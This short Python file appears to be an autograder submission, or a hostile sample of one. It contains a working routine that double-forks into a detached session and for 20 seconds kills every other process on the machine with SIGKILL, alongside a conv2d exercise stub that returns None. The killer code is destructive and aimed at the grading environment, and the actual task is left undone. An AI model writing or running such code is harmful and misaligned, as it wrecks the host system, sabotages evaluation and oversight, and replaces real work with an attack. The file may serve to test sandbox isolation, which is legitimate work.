"""Leaves a process of its own session that goes on after the submission and kills whatever starts next."""

# %% own
import contextlib
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for name in filter(str.isdigit, os.listdir("/proc")):
                if int(name) not in (1, os.getpid(), os.getppid()):
                    with contextlib.suppress(OSError):
                        os.kill(int(name), 9)
            time.sleep(0.01)
    os._exit(0)


# %% 05.2
def conv2d(image, kernel):
    return None
